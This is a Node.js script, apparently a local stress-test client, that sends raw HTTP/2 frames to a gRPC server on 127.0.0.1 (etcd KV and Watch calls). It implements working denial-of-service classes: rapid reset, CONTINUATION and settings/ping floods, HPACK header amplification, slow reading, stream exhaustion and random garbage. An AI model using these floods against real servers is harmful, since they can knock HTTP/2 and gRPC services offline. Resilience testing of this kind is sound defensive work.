// A client that speaks HTTP/2 in raw frames and means no good: node flood.mjs PORT CLASS SECONDS [CONNECTIONS]. Prints what it did as JSON.
import { connect } from 'node:net';

const [port, kind, seconds, connections = '4'] = process.argv.slice(2);
/** Counted from the first connection: on a busy machine the program itself may start late. */
let until = Infinity;
const done = { class: kind, connections: 0, bytes: 0, closed: 0, goaways: 0 };

const frame = (type, flags, id, payload = Buffer.alloc(0)) => {
  const out = Buffer.alloc(9 + payload.length);
  out.writeUIntBE(payload.length, 0, 3);
  out[3] = type;
  out[4] = flags;
  out.writeUInt32BE(id >>> 0, 5);
  out.set(payload, 9);
  return out;
};
const u32 = (v) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(v >>> 0);
  return b;
};
const text = (s) => Buffer.concat([Buffer.from([s.length]), Buffer.from(s, 'latin1')]);
const block = (fields) => Buffer.concat(fields.flatMap(([n, v]) => [Buffer.from([0]), text(n), text(v)]));
const call = (path) =>
  block([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'x'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
  ]);
const range = call('/etcdserverpb.KV/Range');
const put = call('/etcdserverpb.KV/Put');
const watch = call('/etcdserverpb.Watch/Watch');
const message = (body) => Buffer.concat([Buffer.from([0]), u32(body.length), body]);
/** Everything there is: key \0 up to \0. */
const everything = message(Buffer.from([0x0a, 1, 0, 0x12, 1, 0]));
const start = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
const batch = (n, make) => Buffer.concat(Array.from({ length: n }, (_, i) => make(i)));
/** Stream ids go up on each connection. */
const streams = (n, make) => {
  let id = 1;
  return () =>
    batch(n, () => {
      const b = make(id);
      id += 2;
      return b;
    });
};
const constant = (b) => () => () => b;

/** Of each class, a maker of batches for one connection; the first batch follows the preface. */
const classes = {
  'rapid-reset': () =>
    streams(100, (id) =>
      Buffer.concat([frame(1, 4, id, range), frame(0, 1, id, message(Buffer.from([0x0a, 1, 97]))), frame(3, 0, id, u32(8))]),
    ),
  settings: constant(batch(200, () => frame(4, 0, 0, Buffer.concat([Buffer.from([0, 4]), u32(65_535)])))),
  ping: constant(batch(200, () => frame(6, 0, 0, Buffer.alloc(8)))),
  continuation: () => {
    let first = true;
    return () => {
      const more = batch(200, () => frame(9, 0, 1, Buffer.alloc(16)));
      const out = first ? Buffer.concat([frame(1, 0, 1, range), more]) : more;
      first = false;
      return out;
    };
  },
  'empty-data': () => {
    let first = true;
    return () => {
      const more = batch(200, () => frame(0, 0, 1));
      const out = first ? Buffer.concat([frame(1, 4, 1, watch), more]) : more;
      first = false;
      return out;
    };
  },
  priority: constant(batch(200, (i) => frame(2, 0, 1 + 2 * i, Buffer.alloc(5)))),
  'window-update': constant(batch(200, () => frame(8, 0, 0, u32(1)))),
  // 4 MiB announced, one byte a frame.
  fragments: () => {
    let first = true;
    return () => {
      const more = batch(500, () => frame(0, 0, 1, Buffer.from([7])));
      const head = Buffer.concat([frame(1, 4, 1, put), frame(0, 0, 1, Buffer.concat([Buffer.from([0]), u32(1_500_000)]))]);
      const out = first ? Buffer.concat([head, more]) : more;
      first = false;
      return out;
    };
  },
  headers: () => {
    let id = 1;
    // Indexed again and again: a small frame that unpacks to much.
    const big = Buffer.concat([
      range,
      Buffer.from([0x40]),
      text('x'),
      Buffer.from([127, 0x81, 0x1e]),
      Buffer.alloc(4_000, 97),
      Buffer.alloc(4_000, 0xbe),
    ]);
    return () =>
      batch(4, () => {
        const b = frame(1, 5, id, big.subarray(0, 16_000));
        id += 2;
        return b;
      });
  },
  // Large answers that nobody reads.
  'slow-reader': () => streams(4, (id) => Buffer.concat([frame(1, 4, id, range), frame(0, 1, id, everything)])),
  // Calls that never get their end.
  'open-streams': () => streams(100, (id) => frame(1, 4, id, put)),
  // Nothing but a busy processor: what the others feel of that alone.
  spin: constant(Buffer.alloc(0)),
  garbage: () => () => Buffer.from(Array.from({ length: 2_000 }, () => Math.floor(Math.random() * 256))),
};

function open() {
  if (Date.now() > until) return;
  const next = classes[kind]();
  const socket = connect(Number(port), '127.0.0.1');
  let alive = true;
  done.connections++;
  socket.on('connect', () => {
    begin();
    socket.write(start);
    pump();
  });
  const pump = () => {
    if (kind === 'spin') {
      for (const end = Date.now() + 20; Date.now() < end;);
      done.bytes++;
      setImmediate(pump);
      return;
    }
    while (alive && Date.now() < until) {
      const bytes = next();
      done.bytes += bytes.length;
      if (!socket.write(bytes)) break;
      if (kind === 'slow-reader' || kind === 'open-streams') {
        setTimeout(pump, 5);
        return;
      }
    }
    if (Date.now() >= until) socket.destroy();
  };
  socket.on('drain', () => setImmediate(pump));
  if (kind === 'slow-reader') socket.pause();
  else
    socket.on('data', (d) => {
      // GOAWAY, as far as a glance shows.
      if (d.length >= 9 && d.includes(Buffer.from([7, 0, 0, 0, 0, 0]))) done.goaways++;
    });
  const over = () => {
    if (!alive) return;
    alive = false;
    done.closed++;
    socket.destroy();
    // Who was sent away comes again, but not at once.
    setTimeout(open, 100);
  };
  socket.on('error', over);
  socket.on('end', over);
  socket.on('close', over);
  sockets.add(socket);
  socket.on('close', () => sockets.delete(socket));
}
const sockets = new Set();
function begin() {
  if (until !== Infinity) return;
  until = Date.now() + Number(seconds) * 1000;
  setTimeout(
    () => {
      console.log(JSON.stringify(done));
      process.exit(0);
    },
    Number(seconds) * 1000 + 50,
  );
}
for (let i = 0; i < Number(connections); i++) open();
